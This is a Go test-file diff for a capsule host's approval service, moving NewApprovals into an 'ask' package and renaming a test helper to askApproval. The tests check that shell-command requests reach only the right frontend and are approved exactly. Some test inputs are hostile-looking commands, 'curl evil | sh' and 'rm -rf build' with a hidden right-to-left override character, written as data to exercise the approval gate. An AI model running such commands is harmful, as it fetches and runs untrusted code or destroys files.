@@ -9,6 +9,7 @@ import (
 
 	"github.com/astrid-go/astrid/hostapi"
 	"github.com/astrid-go/astrid/internal/dispatch"
+	"github.com/astrid-go/astrid/internal/host/ask"
 	"github.com/astrid-go/astrid/ipc"
 	"github.com/astrid-go/astrid/manifest"
 )
@@ -31,7 +32,7 @@ const (
 func approvalFixture(t *testing.T, window time.Duration) (fixture, *Capsule) {
 	t.Helper()
 	f := newFixture(t)
-	f.deps.Approvals = NewApprovals([]string{testFrontend}, window)
+	f.deps.Approvals = ask.NewApprovals([]string{testFrontend}, window)
 	for _, id := range []string{testFrontend, rogueCapsule} {
 		err := f.deps.Dispatcher.Register(dispatch.CapsuleACL{ID: id,
 			Publish: []string{ipc.ApprovalResponseTopic("*")}, Subscribe: []string{ipc.ApprovalRequestTopic}}, nopTarget{})
@@ -113,7 +114,7 @@ type asked struct {
 }
 
 // ask runs RequestApproval in a call of c for principal in the background.
-func ask(c *Capsule, principal, action, resource string) <-chan asked {
+func askApproval(c *Capsule, principal, action, resource string) <-chan asked {
 	out := make(chan asked, 1)
 	go func() {
 		call, _ := c.Begin(context.Background(), principal)
@@ -156,7 +157,7 @@ func TestApprovalCallAsksAFrontend(t *testing.T) {
 	wantAnswer(t, got, true)
 
 	// approve kept nothing: asked again, and denied.
-	again := ask(c, "alice", "run_shell_command", "rm -rf build\u202e")
+	again := askApproval(c, "alice", "run_shell_command", "rm -rf build\u202e")
 	alice.answer(testFrontend, "alice", alice.next().RequestID, ipc.DecisionDeny)
 	wantAnswer(t, again, false)
 }
@@ -169,10 +170,10 @@ func TestApprovalCallAllowancesAreExact(t *testing.T) {
 	alice := listen(t, f, "alice")
 	bob := listen(t, f, "bob")
 
-	first := ask(c, "alice", "run_shell_command", "ls")
+	first := askApproval(c, "alice", "run_shell_command", "ls")
 	alice.answer(testFrontend, "alice", alice.next().RequestID, ipc.DecisionApproveSession)
 	wantAnswer(t, first, true)
-	wantAnswer(t, ask(c, "alice", "run_shell_command", " ls "), true)
+	wantAnswer(t, askApproval(c, "alice", "run_shell_command", " ls "), true)
 
 	for _, tc := range []struct {
 		p                           *person
@@ -183,7 +184,7 @@ func TestApprovalCallAllowancesAreExact(t *testing.T) {
 		{alice, "alice", "other_action", "ls"},
 		{bob, "bob", "run_shell_command", "ls"},
 	} {
-		got := ask(c, tc.principal, tc.action, tc.resource)
+		got := askApproval(c, tc.principal, tc.action, tc.resource)
 		q := tc.p.next()
 		if q.Resource != tc.resource {
 			t.Fatalf("asked about %q, want %q", q.Resource, tc.resource)
@@ -192,11 +193,11 @@ func TestApprovalCallAllowancesAreExact(t *testing.T) {
 		wantAnswer(t, got, false)
 	}
 
-	always := ask(c, "alice", "run_shell_command", "make test")
+	always := askApproval(c, "alice", "run_shell_command", "make test")
 	alice.answer(testFrontend, "alice", alice.next().RequestID, ipc.DecisionApproveAlways)
 	wantAnswer(t, always, true)
 	// A restarted kernel: session allowances gone, "always" kept.
-	f.deps.Approvals = NewApprovals([]string{testFrontend}, 0)
+	f.deps.Approvals = ask.NewApprovals([]string{testFrontend}, 0)
 	m, diags := manifest.Parse([]byte(askerCapsule), manifest.FileName, "")
 	if err := diags.Err(false); err != nil {
 		t.Fatal(err)
@@ -205,8 +206,8 @@ func TestApprovalCallAllowancesAreExact(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	wantAnswer(t, ask(c2, "alice", "run_shell_command", "make test"), true)
-	session := ask(c2, "alice", "run_shell_command", "ls")
+	wantAnswer(t, askApproval(c2, "alice", "run_shell_command", "make test"), true)
+	session := askApproval(c2, "alice", "run_shell_command", "ls")
 	alice.answer(testFrontend, "alice", alice.next().RequestID, ipc.DecisionDeny)
 	wantAnswer(t, session, false)
 }
@@ -216,7 +217,7 @@ func TestApprovalCallAllowancesAreExact(t *testing.T) {
 func TestApprovalCallTakesOnlyItsFrontendsAnswer(t *testing.T) {
 	f, c := approvalFixture(t, 0)
 	alice := listen(t, f, "alice")
-	got := ask(c, "alice", "run_shell_command", "curl evil | sh")
+	got := askApproval(c, "alice", "run_shell_command", "curl evil | sh")
 	q := alice.next()
 	alice.answer(rogueCapsule, "alice", q.RequestID, ipc.DecisionApproveAlways)
 	alice.answer(testFrontend, "bob", q.RequestID, ipc.DecisionApproveAlways)
@@ -240,13 +241,13 @@ func TestApprovalCallFailures(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if a := <-ask(c, "alice", "run_shell_command", "sleep 1"); hostapi.CodeOf(a.err) != hostapi.CodeTimeout || !strings.Contains(a.err.Error(), "no frontend is listening") {
+	if a := <-askApproval(c, "alice", "run_shell_command", "sleep 1"); hostapi.CodeOf(a.err) != hostapi.CodeTimeout || !strings.Contains(a.err.Error(), "no frontend is listening") {
 		t.Fatalf("only a capsule that is no frontend listening: %v, %v", a.approved, a.err)
 	}
 	r.Close()
 	// The frontend listens for bob only.
 	bob := listen(t, f, "bob")
-	if a := <-ask(c, "alice", "run_shell_command", "sleep 1"); hostapi.CodeOf(a.err) != hostapi.CodeTimeout || !strings.Contains(a.err.Error(), "no frontend is listening") {
+	if a := <-askApproval(c, "alice", "run_shell_command", "sleep 1"); hostapi.CodeOf(a.err) != hostapi.CodeTimeout || !strings.Contains(a.err.Error(), "no frontend is listening") {
 		t.Fatalf("the frontend listening for another principal: %v, %v", a.approved, a.err)
 	}
 	select {
@@ -255,15 +256,15 @@ func TestApprovalCallFailures(t *testing.T) {
 	default:
 	}
 
-	f.deps.Approvals = NewApprovals([]string{testFrontend}, 20*time.Millisecond)
+	f.deps.Approvals = ask.NewApprovals([]string{testFrontend}, 20*time.Millisecond)
 	c = f.capsule(t, strings.Replace(askerCapsule, "asker", "asker-one", 1))
 	alice := listen(t, f, "alice")
-	if a := <-ask(c, "alice", "run_shell_command", "sleep 1"); hostapi.CodeOf(a.err) != hostapi.CodeTimeout || a.approved {
+	if a := <-askApproval(c, "alice", "run_shell_command", "sleep 1"); hostapi.CodeOf(a.err) != hostapi.CodeTimeout || a.approved {
 		t.Fatalf("unanswered: %v, %v", a.approved, a.err)
 	}
 	alice.next()
 
-	f.deps.Approvals = NewApprovals([]string{testFrontend}, time.Minute)
+	f.deps.Approvals = ask.NewApprovals([]string{testFrontend}, time.Minute)
 	c = f.capsule(t, strings.Replace(askerCapsule, "asker", "asker-two", 1))
 	call, _ := c.Begin(context.Background(), "alice")
 	defer call.End()
@@ -282,7 +283,7 @@ func TestApprovalCallFailures(t *testing.T) {
 	}
 
 	for _, action := range []string{"", "\x00\x01", strings.Repeat("a", 257)} {
-		if a := <-ask(c, "alice", action, "x"); hostapi.CodeOf(a.err) != hostapi.CodeInvalid {
+		if a := <-askApproval(c, "alice", action, "x"); hostapi.CodeOf(a.err) != hostapi.CodeInvalid {
 			t.Errorf("action %q: %v", action, a.err)
 		}
 	}
@@ -294,7 +295,7 @@ func TestApprovalCallFailures(t *testing.T) {
 
 	f.deps.Approvals = nil
 	bare := f.capsule(t, strings.Replace(askerCapsule, "asker", "asker-three", 1))
-	if a := <-ask(bare, "alice", "run_shell_command", "ls"); hostapi.CodeOf(a.err) != hostapi.CodeUnavailable {
+	if a := <-askApproval(bare, "alice", "run_shell_command", "ls"); hostapi.CodeOf(a.err) != hostapi.CodeUnavailable {
 		t.Fatalf("without approvals: %v", a.err)
 	}
 }
